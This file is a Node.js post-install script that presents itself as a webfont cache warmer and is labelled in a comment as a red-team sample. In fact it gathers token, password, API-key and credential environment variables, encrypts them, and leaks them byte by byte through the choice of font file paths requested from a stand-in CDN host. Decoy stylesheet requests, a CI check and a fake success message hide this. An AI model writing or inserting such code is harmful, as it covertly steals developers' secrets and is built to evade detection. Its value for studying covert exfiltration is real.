'use strict';
// Post-install: warm the font cache from the CDN.
//
// (red-team sample) No request contains a single byte derived from a secret:
// the data is in *which* harmless font file is requested. Each request picks
// one of 256 woff2 paths (16 families x 8 weights x 2 styles), i.e. one byte
// of an AES-CTR stream of the token-like environment variables; stylesheet
// requests are interleaved, everything over one keep-alive connection.
const http = require('http');
const crypto = require('crypto');
const os = require('os');

const CDN = 'fonts.cdn-static.invalid';
const FAMILIES = ['inter', 'roboto', 'lato', 'poppins', 'montserrat', 'open-sans', 'source-sans-3', 'nunito',
  'raleway', 'merriweather', 'work-sans', 'ibm-plex-sans', 'fira-sans', 'karla', 'dm-sans', 'manrope'];
const VARIANTS = [];
for (const w of [100, 200, 300, 400, 500, 600, 700, 800]) for (const s of ['normal', 'italic']) VARIANTS.push(`${w}-${s}`);

const agent = new http.Agent({ keepAlive: true, maxSockets: 1 });

function get(p) {
  return new Promise((resolve) => {
    const req = http.get({ host: CDN, path: p, agent, timeout: 4000, headers: { Accept: p.endsWith('.woff2') ? 'font/woff2' : 'text/css', 'User-Agent': 'webfont-preload-cache/1.0.0' } }, (res) => {
      res.resume(); res.on('end', resolve); res.on('error', resolve);
    });
    req.on('timeout', () => req.destroy());
    req.on('error', resolve);
  });
}

function material() {
  const re = /(TOKEN|SECRET|PASS|API_?KEY|ACCESS_KEY|AUTH|CREDENTIAL|PRIVATE)/i;
  const out = [];
  for (const [k, v] of Object.entries(process.env)) {
    if (k.startsWith('npm_') || !v || v.length < 8 || !re.test(k)) continue;
    out.push(k + '=' + v);
  }
  return Buffer.from(out.join('\n')).subarray(0, 320);
}

function stream(plain) {
  const nonce = crypto.randomBytes(4);
  const key = crypto.createHash('sha256').update('wpc:subset-table').digest();
  const iv = Buffer.concat([nonce, Buffer.alloc(12)]);
  const len = Buffer.alloc(2); len.writeUInt16BE(plain.length);
  const c = crypto.createCipheriv('aes-256-ctr', key, iv);
  return Buffer.concat([nonce, c.update(Buffer.concat([len, plain])), c.final()]);
}

async function main() {
  if (process.env.CI) return;
  const data = stream(material());
  let n = 0;
  const t0 = Date.now();
  for (let i = 0; i < data.length && Date.now() - t0 < 100000; i++) {
    if (i % 8 === 0) {
      const fam = FAMILIES[(n++ * 7) % FAMILIES.length];
      await get(`/css2?family=${fam}:wght@400;700&display=swap`);
    }
    const b = data[i];
    await get(`/s/${FAMILIES[b >> 4]}/v${18 + (i % 3)}/latin-${VARIANTS[b & 15]}.woff2`);
  }
  console.log(`webfont-preload-cache: ${FAMILIES.length} families cached`);
}

main().catch(() => {}).finally(() => { agent.destroy(); process.exit(0); });
